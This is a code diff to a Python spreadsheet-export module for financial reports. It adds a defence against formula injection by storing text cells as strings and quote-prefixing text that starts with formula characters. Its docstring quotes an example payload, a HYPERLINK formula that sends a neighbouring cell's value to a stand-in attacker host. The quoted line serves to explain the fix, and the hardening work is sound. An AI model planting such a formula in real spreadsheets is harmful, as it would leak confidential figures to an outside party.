@@ -7,6 +7,7 @@ sheets of their own; the HTML page is for reading and printing.
 
 from __future__ import annotations
 
+from collections.abc import Sequence
 from dataclasses import dataclass
 from decimal import Decimal
 from html import escape
@@ -14,6 +15,7 @@ from pathlib import Path
 
 from openpyxl import Workbook
 from openpyxl.styles import Font
+from openpyxl.worksheet.worksheet import Worksheet
 
 from osr_pipelines.reports.build import Report
 from osr_pipelines.reports.chart import MONTHS, Series, bar_chart, monthly_result_svg
@@ -25,7 +27,7 @@ from osr_pipelines.reports.consolidation import (
     mismatch_table,
 )
 from osr_pipelines.reports.periods import label
-from osr_pipelines.reports.tables import Row, Table, amount
+from osr_pipelines.reports.tables import Cell, Row, Table, amount
 from osr_pipelines.reports.trial_balance import ZERO
 
 TITLES = {"trial-balance": "Trial balance", "income-statement": "Income statement", "balance-sheet": "Balance sheet"}
@@ -119,19 +121,41 @@ def html(doc: Document) -> str:
             + "</body></html>")
 
 
+#: what makes a spreadsheet take text for a formula (OWASP's CSV injection list)
+FORMULA_START = ("=", "+", "-", "@", "\t", "\r")
+
+
+def _append(sheet: Worksheet, values: Sequence[Cell]) -> None:
+    """Add a row; text stays text, whatever it starts with.
+
+    Account names, company names and keys come from the ERP or the registry:
+    openpyxl stores a text starting with ``=`` as a live formula, so
+    ``=HYPERLINK("http://evil.example/?"&C3,"Klikk")`` as an account name would
+    send a neighbouring figure away when clicked. Every text cell is stored as a
+    string, and one that starts like a formula also gets Excel's quote prefix,
+    so that editing the cell keeps it text. Amounts stay numbers.
+    """
+    sheet.append(list(values))
+    for cell in sheet[sheet.max_row]:
+        if isinstance(cell.value, str):
+            cell.data_type = "s"
+            if cell.value.startswith(FORMULA_START):
+                cell.quotePrefix = True
+
+
 def xlsx(doc: Document, path: Path) -> None:
     book = Workbook()
     bold = Font(bold=True)
     for index, (name, table) in enumerate(doc.sheets):
         sheet = book.active if index == 0 else book.create_sheet()
         sheet.title = name
-        sheet.append([table.title])
+        _append(sheet, [table.title])
         sheet["A1"].font = Font(bold=True, size=13)
-        sheet.append(list(table.columns))
+        _append(sheet, table.columns)
         for cell in sheet[2]:
             cell.font = bold
         for row in table.rows:
-            sheet.append(list(row.cells))
+            _append(sheet, row.cells)
             for cell in sheet[sheet.max_row]:
                 if isinstance(cell.value, Decimal | int | float):
                     cell.number_format = "#,##0.00"
